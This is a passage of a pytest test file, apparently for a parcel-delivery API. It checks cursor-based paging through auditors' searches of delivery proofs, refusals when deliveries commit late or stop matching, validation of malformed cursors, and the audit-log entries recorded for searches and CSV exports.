    monkeypatch.setattr(proofs_routes, "EXPORT_BATCH", 1)
    list_proofs = proofs.list_proofs
    batches: list[list[int]] = []

    def listing(**kwargs: Any) -> list[proofs.Proof]:
        page = list_proofs(**kwargs)
        batches.append([p.event.id for p in page])
        if len(batches) == 1:  # the shift's close commits once the first batch is read
            refusing = connection.connection.info.get("query_only", False)  # SQLite
            refuse_writes(connection, False)
            connection.execute(
                update(ScanEvent)
                .where(ScanEvent.id == moved)
                .values(courier_id=world.manager.id)  # another user's, as the close files it
            )
            refuse_writes(connection, refusing)
        return page

    monkeypatch.setattr(proofs, "list_proofs", listing)
    export = client.get(
        f"{URL}/export.csv",
        query_string={"courier_id": world.courier.id},
        headers=auth.headers("auditor1"),
    )
    assert export.status_code == 200
    *lines, last = csv.reader(io.StringIO(export.get_data(as_text=True), newline=""))
    assert [int(line[0]) for line in lines[1:]] == delivered
    assert not last[0].startswith(EXPORT_COMPLETE), last
    assert last[0].startswith("# export changed while written: 3 proofs written"), last
    assert "2 match its filters now" in last[0] and "export again" in last[0], last
    session.expire_all()
    parts = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "proofs_exported").order_by(AuditEntry.id)
    ).all()
    assert [e.details["event_ids"] for e in parts] == [[d] for d in delivered]


def delivered_ids(session: Session) -> list[int]:
    return list(
        session.scalars(
            select(ScanEvent.id)
            .where(ScanEvent.type == EventType.DELIVERED)
            .order_by(ScanEvent.id)
        )
    )


def deliveries(auth: Auth, session: Session, world: World, count: int) -> list[int]:
    """``count`` parcels of ST1 checked out and delivered in person, in one push: the
    deliveries' event ids, in order."""
    parcels = [factories.parcel(session, world.station) for _ in range(count)]
    session.commit()
    at = now() - dt.timedelta(hours=1)
    auth.push(
        [factories.event(seq, p.tracking_no, occurred_at=at) for seq, p in enumerate(parcels, 1)]
        + [
            factories.event(seq, p.tracking_no, "delivered", occurred_at=at, pod={})
            for seq, p in enumerate(parcels, count + 1)
        ]
    )
    return delivered_ids(session)


def walk_page(
    client: FlaskClient, headers: dict[str, str], cursor: str | None = None, **query: Any
) -> Any:
    """A page of a walk through the search (``cursor`` None: its first)."""
    return client.get(
        URL, query_string={**query, **({} if cursor is None else {"cursor": cursor})},
        headers=headers,
    )  # fmt: skip


def committed_late(session: Session, event_id: int, event_type: EventType) -> None:
    """The event becomes ``event_type`` and commits: a delivery whose push commits now,
    its id taken when the push stored it (as ``test_an_export_holds_a_delivery_...``)."""
    session.execute(update(ScanEvent).where(ScanEvent.id == event_id).values(type=event_type))
    session.commit()


def test_a_search_walk_refuses_its_last_page_when_a_delivery_committed_late_below_it(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """An id is taken when a push stores the event, not when it commits: on PostgreSQL a
    push committing late holds a lower id than deliveries a search's page showed already,
    and the next page, read by id after them (``after``), never saw it: a walk through
    the search ended without it, and an auditor who searched every proof of the station
    that day took its absence for none. A walk by ``cursor`` counts, at its last page,
    the matching deliveries up to its ``as_of`` against those it showed: a 410
    ``cursor_reset``, search again, and the walk begun again holds it. Pages read by the
    deprecated ``after`` still miss it."""
    delivered = deliveries(auth, session, world, 3)
    late = delivered[0]
    committed_late(session, late, EventType.OUT_FOR_DELIVERY)  # stored, not committed yet
    headers = auth.headers("auditor1")
    first = walk_page(client, headers, limit=1).json
    assert [i["event_id"] for i in first["items"]] == [delivered[1]]
    assert first["as_of"] == delivered[2] and first["arrived_since"] == 0
    committed_late(session, late, EventType.DELIVERED)  # the push commits
    second = walk_page(client, headers, first["next_cursor"], limit=1)
    assert second.status_code == 410, second.json
    assert second.json["code"] == "cursor_reset"
    assert list(second.json["errors"]) == ["cursor"]
    again, pages = walk_page(client, headers, limit=1).json, []
    while True:
        pages.append([i["event_id"] for i in again["items"]])
        if again["next_cursor"] is None:
            break
        again = walk_page(client, headers, again["next_cursor"], limit=1).json
    assert pages == [[late], [delivered[1]], [delivered[2]]]
    # The deprecated ``after``: reads after the page shown, never below it.
    by_after = client.get(
        URL, query_string={"limit": 1, "after": first["next_after"]}, headers=headers
    ).json
    assert [i["event_id"] for i in by_after["items"]] == [delivered[2]]
    assert by_after["next_cursor"] is None and by_after["as_of"] is None


def test_a_search_walk_holds_a_delivery_committed_late_above_the_pages_it_showed(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A delivery committed late with an id above those shown comes in a later page, as
    any does: the walk is not refused for it. One stored after the walk began (an id
    above ``as_of``) is in none of its pages, and each page counts it
    (``arrived_since``)."""
    delivered = deliveries(auth, session, world, 3)
    committed_late(session, delivered[1], EventType.OUT_FOR_DELIVERY)
    headers = auth.headers("manager1")
    first = walk_page(client, headers, limit=1).json
    committed_late(session, delivered[1], EventType.DELIVERED)
    newer = factories.parcel(session, world.station)
    session.commit()
    auth.push([factories.event(7, newer.tracking_no, "delivered", pod={})])
    pages = [first]
    while pages[-1]["next_cursor"] is not None:
        answer = walk_page(client, headers, pages[-1]["next_cursor"], limit=1)
        assert answer.status_code == 200, answer.json
        pages.append(answer.json)
    assert [i["event_id"] for p in pages for i in p["items"]] == delivered
    assert {p["as_of"] for p in pages} == {delivered[2]}
    assert [p["arrived_since"] for p in pages] == [0, 1, 1]
    whole = walk_page(client, headers).json
    assert len(whole["items"]) == 4 and whole["arrived_since"] == 0
    assert whole["as_of"] == whole["items"][-1]["event_id"] and whole["next_cursor"] is None


def test_a_search_walk_is_refused_when_a_late_delivery_came_as_another_stopped_matching(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The last page checks which ids match as well as their number: a delivery
    committed late below the pages shown while one shown stops matching (here no longer
    a delivery; a flag of ``flag_kind`` closed does it) leaves the number as it was, and
    the walk would have ended without the late one."""
    delivered = deliveries(auth, session, world, 4)
    committed_late(session, delivered[0], EventType.OUT_FOR_DELIVERY)
    headers = auth.headers("auditor1")
    first = walk_page(client, headers, limit=2).json
    assert [i["event_id"] for i in first["items"]] == delivered[1:3]
    committed_late(session, delivered[0], EventType.DELIVERED)
    committed_late(session, delivered[1], EventType.OUT_FOR_DELIVERY)
    last = walk_page(client, headers, first["next_cursor"], limit=2)
    assert last.status_code == 410 and last.json["code"] == "cursor_reset"


def test_a_search_walk_is_refused_when_deliveries_swapped_in_and_out_with_the_same_sum(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The last page compared the number and the sum of the ids matching up to ``as_of``
    with those the walk showed: two deliveries committed late below the pages shown
    while two shown stopped matching (a flag of ``flag_kind`` closed does it; here no
    longer deliveries), their ids summing to the same (1 + 4 = 2 + 3), left both as they
    were, and the walk ended without the two late ones: an auditor took their absence
    for none. The cursor now carries a digest of the ids shown, compared with that of
    those matching: a 410 that says how many the walk showed and how many match."""
    delivered = deliveries(auth, session, world, 5)
    assert delivered == list(range(delivered[0], delivered[0] + 5))  # one push: in a row
    late = delivered[1:3]
    for event_id in late:
        committed_late(session, event_id, EventType.OUT_FOR_DELIVERY)
    headers = auth.headers("auditor1")
    first = walk_page(client, headers, limit=2).json
    shown = [i["event_id"] for i in first["items"]]
    assert shown == [delivered[0], delivered[3]] and sum(shown) == sum(late)
    for event_id in late:
        committed_late(session, event_id, EventType.DELIVERED)
    for event_id in shown:
        committed_late(session, event_id, EventType.OUT_FOR_DELIVERY)
    last = walk_page(client, headers, first["next_cursor"], limit=2)
    assert last.status_code == 410, last.json
    assert last.json["code"] == "cursor_reset" and list(last.json["errors"]) == ["cursor"]
    message = last.json["message"]
    assert f"showed 3 deliveries matching the search up to event {delivered[4]}" in message
    assert "3 match now, not the same ones" in message


def test_a_search_walk_by_courier_refused_for_a_close_that_filed_its_deliveries_says_so(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """courier1 hands the PDA over with the shift left open; it pushes courier1's two
    deliveries under courier2's sign-in, as courier2's. An auditor walks courier2's
    proofs (``courier_id``); meanwhile the manager closes courier1's shift declaring its
    last seq, which files both deliveries under it as courier1's (``sync.shifts``): the
    walk's last page is a 410, rightly, but its message named only a late push, a flag
    raised or closed and a parcel moved to another station, none of which happened.
    It names the close that filed deliveries as another courier's."""
    courier2 = factories.user(session, "courier2", "courier", world.station)
    numbers = [factories.parcel(session, world.station).tracking_no for _ in range(2)]
    session.commit()
    pda = Courier(client, auth, "courier1", "PDA-0001")
    shift = pda.open(first_seq=1)
    pda.push([pda.event(number) for number in numbers])
    pda.headers = auth.headers("courier2", "PDA-0001")
    pda.push([pda.event(number, "delivered") for number in numbers])
    headers = auth.headers("auditor1")
    first = walk_page(client, headers, limit=1, courier_id=courier2.id).json
    assert len(first["items"]) == 1 and first["next_cursor"] is not None
    closed = client.post(
        f"/api/v1/shifts/{shift['id']}/close",
        json={"last_seq": pda.seq},
        headers=auth.headers("manager1"),
    )
    assert closed.status_code == 200, closed.json
    last = walk_page(client, headers, first["next_cursor"], limit=1, courier_id=courier2.id)
    assert last.status_code == 410 and last.json["code"] == "cursor_reset", last.json
    assert "a shift's close filed them as its courier's" in last.json["message"], last.json
    # One shown, none matching: counted as such ("showed 1 deliveries" it said).
    assert "this walk showed 1 delivery matching" in last.json["message"], last.json
    assert "; 0 match now" in last.json["message"], last.json
    again = walk_page(client, headers, courier_id=world.courier.id).json
    assert [i["event_id"] for i in again["items"]] == delivered_ids(session)


def test_a_search_walk_refused_with_one_shown_and_one_matching_counts_each_as_one(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The 410 said "this walk showed 1 deliveries ...; 1 match now": a walk that showed
    one delivery, another matching at its last page (one committed late below it while
    those shown stopped matching), is told in the singular."""
    delivered = deliveries(auth, session, world, 3)
    committed_late(session, delivered[0], EventType.OUT_FOR_DELIVERY)
    headers = auth.headers("auditor1")
    first = walk_page(client, headers, limit=1).json
    assert [i["event_id"] for i in first["items"]] == [delivered[1]]
    committed_late(session, delivered[0], EventType.DELIVERED)
    for event_id in delivered[1:]:
        committed_late(session, event_id, EventType.OUT_FOR_DELIVERY)
    last = walk_page(client, headers, first["next_cursor"], limit=1)
    assert last.status_code == 410 and last.json["code"] == "cursor_reset", last.json
    message = last.json["message"]
    assert f"this walk showed 1 delivery matching the search up to event {delivered[2]}" in (
        message
    ), message
    assert "; 1 matches now, not the same one:" in message, message


def test_a_search_cursor_malformed_or_of_other_filters_is_a_400(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A cursor this server did not hand out, or one sent with other filters than the page
    that gave it (another station's reader's included), is a 400 ``cursor_malformed``,
    never a page of another walk; ``after`` with ``cursor`` is a 422."""
    delivered = deliveries(auth, session, world, 2)
    headers = auth.headers("auditor1")
    first = walk_page(client, headers, limit=1, method="in_person").json
    cursor = first["next_cursor"]
    as_of, offset, after, first_sum, second_sum, key = cursor.split(".")
    walked = f"{first_sum}.{second_sum}"
    assert (int(as_of), int(offset), int(after), (int(first_sum), int(second_sum))) == (
        delivered[1], 1, delivered[0], walk_digest([delivered[0]])
    )  # fmt: skip
    for wrong in (
        "5",
        f"{as_of}.1.{after}.{walked}",
        f"{as_of}.1.{after}.{walked}.{key}x",
        f"{as_of}.1.{after}.{walked}.{key.upper()}",
        f"{as_of}.1.{after}.{first_sum}.{2**31}.{key}",  # beyond a digest's sum
        f"{as_of}.1.{after}.{first_sum}.{second_sum}0000000000.{key}",
        f"{10**20}.1.{after}.{walked}.{key}",
        f"{2**63}.1.{after}.{walked}.{key}",  # 19 digits, beyond a BIGINT
        f"{as_of}.{2**63}.{after}.{walked}.{key}",
        f"{after}.1.{as_of}.{walked}.{key}",  # after beyond as_of
        f"{as_of}.1.0.{walked}.{key}",  # after: no delivery
        f"{as_of}.0.{after}.{walked}.{key}",  # after, but nothing shown
    ):
        malformed = walk_page(client, headers, wrong, limit=1, method="in_person")
        assert malformed.status_code == 400, wrong
        assert malformed.json["code"] == "cursor_malformed"
        assert list(malformed.json["errors"]) == ["cursor"]
    # A cursor handed out before the walk kept its ids' digest summed as now: it kept
    # their sum, then a digest of them chained in order.
    for earlier in (f"{as_of}.1.{after}.{after}.{key}", f"{as_of}.1.{after}.{key}.{key}"):
        summed = walk_page(client, headers, earlier, limit=1, method="in_person")
        assert summed.status_code == 410 and summed.json["code"] == "cursor_reset"
    for other in ({"method": "locker"}, {}, {"station_id": world.station.id}):
        elsewhere = walk_page(client, headers, cursor, limit=1, **other)
        assert elsewhere.status_code == 400, other
        assert elsewhere.json["code"] == "cursor_malformed"
    manager = walk_page(client, auth.headers("manager1"), cursor, limit=1, method="in_person")
    assert manager.status_code == 400 and manager.json["code"] == "cursor_malformed"
    both = client.get(URL, query_string={"cursor": cursor, "after": delivered[0]}, headers=headers)
    assert both.status_code == 422 and both.json["code"] == "cursor_and_after"
    going_on = walk_page(client, headers, cursor, limit=1, method="in_person")
    assert going_on.status_code == 200
    assert [i["event_id"] for i in going_on.json["items"]] == [delivered[1]]


def test_an_auditors_search_records_which_page_of_which_walk(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """``proofs_searched`` named only the deliveries a page showed: an auditor's walk
    through a search was a row of entries alike, and which walk each page was of, and
    where in it, could not be told. Each entry now names the cursor sent, the walk's
    ``as_of``, the page's ``offset`` and ``entries``, ``arrived_since`` and the
    ``next_cursor`` given, as ``parcel_read`` does a timeline's; a page read by the
    deprecated ``after``, that ``after`` and the ``next_after`` given."""
    delivered = deliveries(auth, session, world, 3)
    headers = auth.headers("auditor1")
    first = walk_page(client, headers, limit=2).json
    second = walk_page(client, headers, first["next_cursor"], limit=2).json
    assert second["next_cursor"] is None
    client.get(URL, query_string={"limit": 2, "after": delivered[0]}, headers=headers)
    session.expire_all()
    entries = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "proofs_searched").order_by(AuditEntry.id)
    ).all()
    walk = {"as_of": delivered[2], "arrived_since": 0}
    assert [e.details for e in entries] == [
        {"event_ids": delivered[:2], "cursor": None, "offset": 0, "entries": 2,
         "next_cursor": first["next_cursor"], **walk},
        {"event_ids": delivered[2:], "cursor": first["next_cursor"], "offset": 2,
         "entries": 1, "next_cursor": None, **walk},
        {"event_ids": delivered[1:], "after": delivered[0], "next_after": delivered[2]},
    ]  # fmt: skip


def test_an_auditors_search_records_its_filters_as_the_export_does(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """``proofs_searched`` named the deliveries a page showed and where in the walk it
    was, not what was searched: an auditor reading the log could not tell a search of
    one parcel's proofs, or of one courier's locker drops, from one of every proof, and
    a search that found nothing left an entry saying nothing at all. It records the
    filters set, as the export's entries (``proofs_exported``) record them."""
    delivered = deliveries(auth, session, world, 2)
    tracking_no = session.get(ScanEvent, delivered[0]).tracking_no
    typed = tracking_no.lower()  # as typed: normalized to search, recorded as typed
    filters = {
        "station_id": world.station.id,
        "tracking_no": typed,
        "method": "in_person",
        "occurred_from": "2020-01-01T00:00:00+00:00",
    }
    headers = auth.headers("auditor1")
    found = client.get(URL, query_string=filters, headers=headers)
    assert [i["event_id"] for i in found.json["items"]] == delivered[:1]
    none = client.get(URL, query_string={**filters, "method": "locker"}, headers=headers)
    assert none.json["items"] == []
    client.get(f"{URL}/export.csv", query_string=filters, headers=headers).close()
    session.expire_all()

    def logged(action: str) -> list[dict[str, Any]]:
        return [
            e.details
            for e in session.scalars(
                select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)
            )
        ]

    searched = logged("proofs_searched")
    expected = {
        "station_id": str(world.station.id),
        "tracking_no": typed,
        "method": "in_person",
        "occurred_from": "2020-01-01 00:00:00+00:00",
    }
    assert [{k: d.get(k) for k in expected} for d in searched] == [
        expected,
        {**expected, "method": "locker"},
    ]
    assert searched[1]["event_ids"] == []
    (export,) = logged("proofs_exported")
    assert {k: v for k, v in export.items() if k not in ("export_id", "part", "event_ids")} == {
        k: v for k, v in searched[0].items() if k in expected
    }


def test_the_proofs_page_walks_by_cursor_and_says_when_a_delivery_committed_late_below_it(
    app: Flask,
    auth: Auth,
    session: Session,
    world: World,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The proofs page's "Next page" went on by id (``after``) as the API's deprecated
    search does: a delivery whose push committed late below the page shown was in none
    of the pages that followed, and an auditor who clicked through a station's proofs
    to the last page took its absence for none. The page walks by the search's cursor:
    its last page finds the delivery it missed and says so (a 410 page: search again),
    putting no read on record; searched again, the walk holds it."""
    monkeypatch.setattr("courier_api.web.views.PAGE_SIZE", 1)
    delivered = deliveries(auth, session, world, 3)
    late = delivered[0]
    committed_late(session, late, EventType.OUT_FOR_DELIVERY)  # stored, not committed yet
    pages = signed_in(app, "auditor1")

    def shown(html: str) -> list[int]:
        return [int(i) for i in re.findall(r'<tr id="proof-(\d+)"', html)]

    def next_link(html: str) -> str | None:
        found = re.search(r'<a href="([^"]+)" rel="next">', html)
        return None if found is None else found.group(1).replace("&amp;", "&")

    search = f"/web/proofs?station={world.station.id}"
    first = pages.get(search)
    assert shown(first) == [delivered[1]]
    link = next_link(first)
    assert link is not None and "cursor=" in link and "after=" not in link
    assert f"station={world.station.id}" in link
    committed_late(session, late, EventType.DELIVERED)  # the push commits
    session.expire_all()
    searches = len(session.scalars(select(AuditEntry.id)).all())
    refused = pages.get(link, status=410)
    assert "Deliveries arrived during your walk" in refused
    assert shown(refused) == [] and next_link(refused) is None
    assert f'<a href="{search}">search again</a>' in refused
    session.expire_all()
    assert len(session.scalars(select(AuditEntry.id)).all()) == searches  # nothing shown
    walked, html = [], pages.get(search)
    while True:
        walked.append(shown(html))
        link = next_link(html)
        if link is None:
            break
        html = pages.get(link)
    assert walked == [[late], [delivered[1]], [delivered[2]]]
    session.expire_all()
    entries = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "proofs_searched").order_by(AuditEntry.id)
    ).all()
    last = entries[-1].details
    assert last["event_ids"] == [delivered[2]] and last["station_id"] == str(world.station.id)
    assert (last["as_of"], last["offset"], last["entries"], last["next_cursor"]) == (
        delivered[2],
        2,
        1,
        None,
    )
